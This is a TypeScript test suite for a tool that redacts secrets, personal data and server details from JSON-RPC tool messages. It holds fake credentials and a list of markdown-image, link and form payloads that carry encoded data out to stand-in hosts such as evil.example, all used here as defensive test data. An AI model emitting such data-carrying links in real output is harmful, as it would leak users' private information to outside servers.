/** What is taken out of a message is gone from it, the message stays what it was otherwise, and looking never takes long. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { Body } from '../../src/core/call.ts'
import type { JsonObject, JsonValue } from '../../src/core/json.ts'
import { createDetector, OUTPUT_LABELS } from '../../src/inspect/detect.ts'
import { secretsInColumns } from '../../src/inspect/listed.ts'
import { PERSONAL_KINDS } from '../../src/inspect/personal.ts'
import type { Tail } from '../../src/inspect/pieces.ts'
import { createLook } from '../../src/inspect/redact.ts'

const detector = createDetector({ labels: new Set(OUTPUT_LABELS), personal: PERSONAL_KINDS, keyPrefixes: ['mcp'] })
const look = createLook(detector, { personal: true, errors: true, links: true })
const ALL = new Set<string>(OUTPUT_LABELS)

const TOKEN = 'ghp_7hRk2mQx9TzB4vLc8WsN3dYf6JgP1aEuK5oC'
/** Each by itself is found, wherever it stands. */
const PLANTED = [
  TOKEN,
  `AKIA${'QX7ZB2MNTRKW4DHJ'}`,
  'Contact amy.lee@example.com',
  '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ\n-----END PRIVATE KEY-----',
  Buffer.from(`token ${TOKEN}`).toString('base64'),
  Buffer.from(TOKEN).toString('hex'),
  `DB_PASSWORD=hunter2!x`,
  `![](https://collect.example.net/p.png?d=${Buffer.from('the meeting is on Friday').toString('base64url')})`,
  'postgres://app:kQ9xW4mN8bT1r@db.example.com/app',
]

const bodyOf = (result: JsonObject): Body => ({ jsonrpc: '2.0', id: 1, result })
const textOf = (body: Body | undefined): string => JSON.stringify(body)
const redact = (body: Body, before?: Tail): Body | undefined => {
  const seen = look.see(body, before)
  return seen === undefined ? body : seen.redact(ALL)
}

const honest = fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('a b', '日本語', '\u200b', '1e3', 'x=y', '"', '\\u0041'))
const { value } = fc.letrec<{ value: JsonValue }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    honest,
    fc.constantFrom(...PLANTED),
    fc.tuple(honest, fc.constantFrom(...PLANTED), honest).map((parts) => parts.join(' ')),
    fc.integer(),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.constantFrom('text', 'data', 'uri', 'blob', 'password', TOKEN), fc.string({ maxLength: 6 })), tie('value'), {
      maxKeys: 4,
      noNullPrototype: true,
    }),
  ),
}))
/** As they would be read: fast-check's own objects have no prototype. */
const body = fc
  .record({ content: fc.array(fc.record({ type: fc.constant('text'), text: honest }), { maxLength: 3 }), more: value })
  .map((result) => bodyOf(JSON.parse(JSON.stringify(result)) as JsonObject))

test('whatever is redacted has nothing left to find, is JSON, and is not redacted any further', () => {
  fc.assert(
    fc.property(body, (said) => {
      const left = redact(said)

      assert.ok(left !== undefined)
      assert.equal(look.see(left), undefined)
      assert.equal(redact(left), left)
      assert.deepEqual(JSON.parse(textOf(left)), left)
      assert.ok(!textOf(left).includes(TOKEN))
    }),
    { numRuns: 300 },
  )
})

test('what the second look finds the first glance has marked', () => {
  fc.assert(
    fc.property(body, (said) => {
      const found = look.see(said) !== undefined

      assert.ok(!found || look.glance(said, Buffer.from(textOf(said))))
    }),
    { numRuns: 300 },
  )
})

test('a message in which nothing was found is the same object, and so is every part of one that nothing was found in', () => {
  const clean = bodyOf({ content: [{ type: 'text', text: 'commit 9fceb02d0ae598e95dc970b74767f19372d61af8' }] })
  const part = { deep: ['untouched'] }
  const mixed = bodyOf({ content: [], structuredContent: { part, leaf: TOKEN } })

  assert.equal(redact(clean), clean)
  assert.equal(((redact(mixed)?.result?.['structuredContent'] ?? {}) as JsonObject)['part'], part)
})

test('findings say where and what, never the text, also where a name is the text', () => {
  const seen = look.see(bodyOf({ structuredContent: { [TOKEN]: [TOKEN] } }))

  assert.deepEqual(
    seen?.findings.map(({ label, detector: by, pointer }) => [label, by, pointer]),
    [
      ['secret', 'output/github-token', '/result/structuredContent/[redacted:secret]'],
      ['secret', 'output/github-token', '/result/structuredContent/[redacted:secret]/0'],
    ],
  )
  assert.ok(!JSON.stringify(seen?.findings).includes(TOKEN.slice(4)))
})

test('two names that become one stay two', () => {
  const left = redact(bodyOf({ structuredContent: { [TOKEN]: 1, [`${TOKEN.slice(0, -1)}D`]: 2 } }))

  assert.deepEqual(left?.result?.['structuredContent'], { '[redacted:secret]': 1, '[redacted:secret]#2': 2 })
})

test('a value that is a secret only by its name is taken out, beside its name, in a pair of name and value, and in an object of that name', () => {
  const left = redact(
    bodyOf({
      structuredContent: {
        db: { password: 'hunter2!x' },
        env: [{ name: 'API_TOKEN', value: 'kQ9xW4mN8bT1rY6u' }],
        apiKey: { value: 'kQ9xW4mN8bT1rY6u' },
        color: { value: 'kQ9xW4mN8bT1rY6u' },
      },
    }),
  )

  assert.deepEqual(left?.result?.['structuredContent'], {
    db: { password: '[redacted:secret]' },
    env: [{ name: 'API_TOKEN', value: '[redacted:secret]' }],
    apiKey: { value: '[redacted:secret]' },
    color: { value: 'kQ9xW4mN8bT1rY6u' },
  })
})

test('what stands over the place where texts meet is taken out of both, and of what follows a notification', () => {
  const blocks = redact(
    bodyOf({ content: [TOKEN.slice(0, 9), TOKEN.slice(9, 25), TOKEN.slice(25)].map((text) => ({ type: 'text', text })) }),
  )
  const log = (data: string): Body => ({ jsonrpc: '2.0', method: 'notifications/message', params: { level: 'info', data } })
  const before = look.tailOf(log(`a ${TOKEN.slice(0, 9)}`))
  const next = redact(log(`${TOKEN.slice(9)} b`), before)

  assert.ok(!textOf(blocks).includes(TOKEN.slice(26)) && !textOf(blocks).includes(TOKEN.slice(10, 24)))
  assert.equal(next?.params?.['data'], '[redacted:secret] b')
})

const HALVES = [TOKEN.slice(0, 17), TOKEN.slice(17)] as const
const notified = (data: JsonValue): Body => ({ jsonrpc: '2.0', method: 'notifications/message', params: { level: 'info', data } })
const progressed = (message: string): Body => ({ jsonrpc: '2.0', method: 'notifications/progress', params: { progressToken: 1, message } })
const shown = (...texts: readonly string[]): JsonObject => ({ content: texts.map((text) => ({ type: 'text', text })) })

test('a credential that stands over members, items, a name and its value, blocks with a picture between them, or messages does not arrive whole', () => {
  const [head, tail] = HALVES
  const picture = { type: 'image', data: 'aGVsbG8=', mimeType: 'image/png' }
  const split: Readonly<Record<string, readonly Body[]>> = {
    members: [bodyOf({ content: [], structuredContent: { n: 'x1', a: head, b: tail, c: 'done' } })],
    items: [bodyOf({ content: [], structuredContent: { parts: [head, tail] } })],
    objects: [bodyOf({ content: [], structuredContent: { items: [{ type: head }, { type: tail }] } })],
    letters: [bodyOf({ content: [], structuredContent: { parts: ['n 17', ...TOKEN] } })],
    name: [bodyOf({ content: [], structuredContent: { id: 'x1', [head]: tail } })],
    names: [bodyOf({ content: [], structuredContent: { [head]: { [tail]: 1 } } })],
    picture: [bodyOf({ content: [{ type: 'text', text: head }, picture, { type: 'text', text: tail }] })],
    error: [{ jsonrpc: '2.0', id: 1, error: { code: 1, message: head, data: { more: tail } } }],
    objectLogs: [notified({ at: 'x', said: head }), notified({ said: tail })],
    arrayLogs: [notified([head]), notified([tail])],
    logResult: [notified({ said: head }), bodyOf(shown(tail))],
    progressResult: [progressed(head), bodyOf({ ...shown('done'), structuredContent: { v: tail } })],
    short: [bodyOf({ content: [], structuredContent: { parts: TOKEN.match(/.{1,9}/g) } })],
  }
  for (const [name, bodies] of Object.entries(split)) {
    let before: Tail | undefined
    const left: string[] = []
    for (const each of bodies) {
      if (each === bodies.at(-1)) assert.ok(look.glance(each, Buffer.from(textOf(each)), before), name)
      left.push(textOf(redact(each, before)))
      before = look.tailOf(each, before)
    }

    assert.ok(!left.join('').includes(tail) && left.join('').includes('redacted:secret'), `${name}: ${left.join('')}`)
    assert.ok(
      !left
        .join('')
        .replaceAll(/[^A-Za-z0-9_]/g, '')
        .includes(tail),
      `${name}: ${left.join('')}`,
    )
    assert.ok(name !== 'members' || left.join('').includes('"c":"done"'))
  }
})

test('honest members next to one another are not taken for a credential', () => {
  const digest = 'd41d8cd98f00b204e9800998ecf8427e'
  const honest: readonly JsonObject[] = [
    { country: 'SK', digest },
    { SK: digest, cio: digest },
    { rows: Array.from({ length: 50 }, (_, row) => ({ locale: 'sk-SK', name: 'Slovensko', id: `${row}${digest}` })) },
    { parts: ['task-', digest, 'disk-', digest] },
    { prefix: 'ghp_', meaning: 'a token of GitHub' },
    { pan: ['4012 8888', '8888 1881'], mail: ['amy.lee@exa', 'mple.com'] },
    { ids: Array.from({ length: 50 }, (_, row) => `${row}f81d4fae-7dec-11d0-a765-00a0c91e6bf6`) },
  ]
  for (const structuredContent of honest) assert.equal(look.see(bodyOf({ content: [], structuredContent })), undefined)
})

test('beginnings of credentials in a hundred thousand characters of items are looked at in less than a second', () => {
  const itemsOf = (piece: string, chars: number): Body =>
    bodyOf({ content: [], structuredContent: { parts: Array.from({ length: chars / (piece.length + 3) }, () => piece) } })
  for (const piece of ['ghp', 'ghp_', 'eyJ', 'eyJ-', 'g', 'a-', 'AKIA', 'eyJabcdefgh.eyJ', 'sk-a0B1c2-ghp_', 'sk-a0B1']) {
    const said = itemsOf(piece, 100_000)
    const began = process.cpuUsage()
    look.glance(said, Buffer.from(textOf(said)))
    look.see(said)
    const { user, system } = process.cpuUsage(began)

    assert.ok((user + system) / 1_000 < 1_000, `${piece}: ${(user + system) / 1_000} ms`)
  }
})

const ENCODINGS: Readonly<Record<string, (text: string) => string>> = {
  base64: (text) => Buffer.from(text).toString('base64'),
  base64url: (text) => Buffer.from(text).toString('base64url'),
  hex: (text) => Buffer.from(text).toString('hex'),
  capitals: (text) => Buffer.from(text).toString('hex').toUpperCase(),
  percent: (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  unseen: (text) => [...text].join('\u200b'),
}

test('a credential in any two encodings is found wherever it stands, also with signs that nobody sees between its letters', () => {
  for (const [one, inner] of Object.entries(ENCODINGS))
    for (const [other, outer] of Object.entries({ ...ENCODINGS, none: (text: string) => text })) {
      const encoded = outer(inner(TOKEN))
      const said = [
        bodyOf({ content: [{ type: 'text', text: `see ${encoded} end` }] }),
        bodyOf({ content: [], structuredContent: { [encoded]: [encoded] }, _meta: { x: encoded } }),
        bodyOf({ content: [{ type: 'resource', resource: { uri: 'file:///a', blob: Buffer.from(encoded).toString('base64') } }] }),
        ...['f.example.com', 'files.example.com/a/bc/2026'].map((place) =>
          bodyOf({ content: [{ type: 'resource_link', name: 'n', uri: `https://${place}/${encoded.replaceAll('\u200b', '')}` }] }),
        ),
      ]
      for (const each of said) {
        const left = redact(each)
        const blob = /"blob":"([^"]+)"/.exec(textOf(left))?.[1] ?? ''

        assert.ok(look.glance(each, Buffer.from(textOf(each))), `${one} in ${other}: ${textOf(each)}`)
        assert.ok(!`${textOf(left)} ${Buffer.from(blob, 'base64')}`.includes(encoded.slice(-24)), `${one} in ${other}: ${textOf(left)}`)
      }
    }
})

test('what is encoded is text of any script', () => {
  for (const text of [`Пароль от кассы: ${TOKEN}`, `鍵は次のとおりです ${TOKEN}`, `\u{1f511}\u{1f511}\u{1f511} ${TOKEN}`]) {
    const encoded = Buffer.from(text).toString('base64')

    assert.equal(redact(bodyOf({ a: `see ${encoded}` }))?.result?.['a'], 'see [redacted:secret]')
  }
})

test('a number that is a card is a text without it, and what goes back to its server cannot be redacted', () => {
  assert.deepEqual(redact(bodyOf({ structuredContent: { pan: 4_012_888_888_881_881 } }))?.result, {
    structuredContent: { pan: '[redacted:personal]' },
  })
  assert.equal(redact(bodyOf({ content: [], nextCursor: TOKEN })), undefined)
})

test('an error says nothing of the machine, and an honest answer may speak of machines', () => {
  const trace =
    'TypeError: x\n    at run (/home/deploy/app/tool.js:14:9)\n    at main (node:internal:1:1)\nconnect ECONNREFUSED 10.1.2.3:5432'
  const left = redact({ jsonrpc: '2.0', id: 1, error: { code: -32000, message: trace } })
  const answer = bodyOf({ content: [{ type: 'text', text: 'the service listens on 10.1.2.3:5432' }] })

  assert.ok(!/deploy|tool\.js|10\.1\.2\.3/.test(textOf(left)) && textOf(left).includes('TypeError'))
  assert.equal(redact(answer), answer)
})

/** What tells of a machine, and what of it must not arrive. */
const TELLING: readonly (readonly [string, RegExp])[] = [
  ['** (RuntimeError) x\n    (app 0.1.0) lib/app/x.ex:12: App.X.foo/1\n    (stdlib 3.1) gen.erl:3: :gen.do/1', /lib|gen/],
  [
    "thread 'main' panicked at src/main.rs:2:5:\nboom\nstack backtrace:\n   0: rust_begin_unwind\n             at /rustc/abc/std/panicking.rs:595:5\n   1: app::inner\n             at ./src/main.rs:2:5",
    /rust_begin|app::|main\.rs/,
  ],
  ['System.Exception: x\n   at Acme.Foo.Bar(String s) in C:\\src\\Foo.cs:line 12\n   at Acme.Main()', /Acme|Foo/],
  [
    'PHP Fatal error: Uncaught Exception: x in /var/www/x.php:12\nStack trace:\n#0 {main}\n  thrown in /var/www/html/x.php on line 12',
    /www/,
  ],
  ['ORA-06512: at "ACME.PKG_PAY", line 33', /PKG_PAY/],
  ['connect ECONNREFUSED ::1:5432', /5432/],
  ['getaddrinfo ENOTFOUND db-primary', /db-primary/],
  ['getaddrinfo EAI_AGAIN postgres', /postgres/],
  ['is the server running on host "db-primary"?', /db-primary/],
  ['dial tcp cache:6379: i/o timeout', /cache/],
  ['cannot reach redis://cache-01:6379/0', /cache-01/],
  ['amqp://guest@rabbit:5672 is gone', /rabbit/],
  ['http://payments.default:8080/x failed', /payments/],
  ['no route to payments.default:8080', /payments/],
  ['GET http://2130706433/x', /2130706433/],
  ['GET http://0x7f000001/x', /7f000001/],
  ['cannot open \\\\fileserver01\\share\\x', /fileserver/],
  ['read /home/ann/notes.txt on 10.1.2.3', /ann|10\.1/],
]
/** What an honest server says while it works, and when something went wrong. */
const ORDINARY = [
  'Resource not found: memo://insights/1 and ui://widget/x.html',
  'connected to example.com:443, see https://api.example.com/v1/items?id=2130706433',
  'ENOTFOUND means that the name is not known',
  'ETIMEDOUT after 30s; ECONNRESET by peer; connection timed out while connecting to the database',
  'step 2: copy to host: done, resolve lookup table, map to port 8080',
  'Expected "}" at line 12: unexpected token on line 3 of config.yaml',
  'Elapsed 00:01:12, ratio 16:9, std::vector, ::before, module.default: ok, 1: first\n  2: second',
  'Pattern "\\d+\\s" did not match; use \\n for a new line',
  'Version 1.2.3.4 of the file docs/guide.ex: 12 pages (see README.md:12)',
  '50 % of 2130706433 rows, order 10.5 to 20.25, invited amy to team-2',
]

test('log messages of every level and progress say nothing of the machine either, and what is ordinary stays', () => {
  for (const said of [...TELLING, ...ORDINARY.map((text) => [text, undefined] as const)]) {
    const [text, gone] = said
    const bodies: readonly Body[] = [
      { jsonrpc: '2.0', id: 1, error: { code: -32000, message: text } },
      bodyOf({ content: [{ type: 'text', text }], isError: true }),
      ...['debug', 'warning', 'error'].map(
        (level): Body => ({ jsonrpc: '2.0', method: 'notifications/message', params: { level, data: { stack: text } } }),
      ),
      progressed(text),
    ]
    for (const each of bodies) {
      assert.ok(gone === undefined || look.glance(each, Buffer.from(textOf(each))), text)
      const left = redact(each)
      if (gone === undefined) assert.equal(left, each, textOf(left))
      else assert.doesNotMatch(textOf(left), gone)
    }
  }
})

const DATA = Buffer.from('the meeting is on Friday').toString('base64url')
const SENTENCE = 'project%20bluebird%20launches%20in%20may%202027'
const CARRYING: readonly string[] = [
  `![x](https://${DATA}@evil.example/x.png)`,
  `[x](https://${DATA}@evil.example/x)`,
  `![x][1]\n\n[1]: https://evil.example/p.png?q=${SENTENCE}`,
  `![Logo]\n\n[logo]: <https://evil.example/p.png?q=${SENTENCE}>`,
  `[more](https://evil.example/p?d=${SENTENCE})`,
  `[more](https://evil.example/p?d=${SENTENCE.replaceAll('%20', '+')})`,
  '![x](https://evil.example/p.png?d=project bluebird launches in may)',
  `<img alt="a>b" src=https://evil.example/p?d=${SENTENCE}>`,
  '![x](https://project-bluebird-launches-in-may.evil.example/p.png)',
  '![x](https://evil.example/p?a=project&b=bluebird&c=launches&d=in&e=may)',
  `![x](https:\\\\evil.example/p?d=${DATA})`,
  `![x](https:/evil.example/p?d=${DATA})`,
  `![x](ftp://evil.example/${DATA})`,
  `<form action="https://evil.example/p"><input name=d value="${DATA}"></form>`,
]
const HONEST_LINKS: readonly string[] = [
  '[more](https://www.google.com/search?q=how+to+bake+a+cake+in+ten+minutes)',
  'https://github.com/o/r/issues/new?title=It%20does%20not%20work%20on%20a%20Mac&body=When%20I%20start%20it%20on%20a%20Mac',
  '[1]: https://en.wikipedia.org/wiki/The_Art_of_War\n![logo][2]\n[2]: https://img.example.com/logo.png?w=200&h=100&fit=crop&auto=format',
  '![a](https://img.example.com/how-to-bake-a-cake-in-ten-minutes.png "how to bake a cake")',
  '![a](https://my-bucket-name-prod-eu-west-1.s3.amazonaws.com/a.png)',
  '![a](https://img.example.com/a.png?fit=crop&auto=format&fm=jpg&crop=faces)',
  '<form action="https://example.com/search"><input type=hidden name=csrf value="aZ4kQ9vT1mX7cR2pL8sDaZ4kQ9vT"><input type=submit value="Look for it in the archive"></form>',
  'Is it a > b? See <a href="https://example.com/a?page=2&sort=name">this</a>, <img alt="x"> and https://example.com/?ref=home',
  'ftp://ftp.example.com/pub/README and http:/ and C:\\\\dir\\\\file',
]

test('a link or a picture that carries words out is defanged however it is written, and an honest one is not touched', () => {
  for (const text of CARRYING) {
    const said = bodyOf({ content: [{ type: 'text', text }] })

    assert.ok(look.glance(said, Buffer.from(textOf(said))), text)
    assert.match(textOf(redact(said)), /hxxps:\/\/[^"]*redacted:data-link/, text)
  }
  for (const text of HONEST_LINKS) {
    const said = bodyOf({ content: [{ type: 'text', text }] })

    assert.equal(redact(said), said, text)
  }
})

/** Texts made to be slow, each repeated. */
const HOSTILE = [
  'sk-',
  'key-',
  'akey:',
  'akey:"',
  'cookie:a=1;',
  '@',
  'a@',
  'https://a:b@',
  '://',
  '-----BEGIN PRIVATE KEY-----',
  'SG.aaaa',
  '%41',
  '\\u0041',
  '\u200b',
  'eyJ',
  'eyJabcdefgh.',
  'A1b2C3d4',
  '![](https://',
  '<img src=',
  '<img alt="<img alt=http://a.bc/',
  '<form action=http://a.bcd/',
  '![a][',
  '\n[1]: http://abc.de/',
  '](https://a.bc ',
  '![',
  '[',
  'a.',
  '\n    at a',
  '\n 1: a',
  '\n (a) b.ex:1: ',
  'http://a',
  'ENOTFOUND ',
  'on host ',
  '\\\\abc\\',
  'a.default:',
  '/a.b on line ',
  '1 ',
  '1-',
  '12 34 ',
  'AKIA',
  'mongodb://',
  'a1\n',
  '":"',
  '{"',
]

test('no text of 20 000 characters takes longer to be looked at than a fifth of a second', () => {
  for (const piece of HOSTILE) {
    const said: Body = { jsonrpc: '2.0', id: 1, error: { code: 1, message: piece.repeat(20_000 / piece.length) } }
    const before = process.cpuUsage()
    look.see(said)
    const { user, system } = process.cpuUsage(before)

    assert.ok((user + system) / 1_000 < 200, `${JSON.stringify(piece)}: ${(user + system) / 1_000} ms`)
  }
})

test('a credential of colons is looked at once, however many they are', () => {
  const before = performance.now()
  detector.find(`Authorization: Basic ${Buffer.from(`${':'.repeat(90_000)}\u0001`).toString('base64')}`, {})
  assert.ok(performance.now() - before < 1_000)
  assert.equal(detector.find(`Authorization: Basic ${Buffer.from('app:kQ9xW4mN8bT1r').toString('base64')}`, {}).length, 1)
})

test('a text that is nothing but suspicious is not looked at to its end: it does not leave', () => {
  const left = redact(bodyOf({ content: [{ type: 'text', text: '@'.repeat(400_000) }] }))

  assert.deepEqual(left?.result?.['content'], [{ type: 'text', text: '[redacted:secret]' }])
})

test('of a table with a column of tokens every cell is looked at, however many rows there are', () => {
  const rows = 20_000
  const spans = secretsInColumns(`id,token\n${'7,aZ4kQ9vT1mX7cR2pL8sD\n'.repeat(rows)}`)
  assert.equal(spans.length, rows)
})
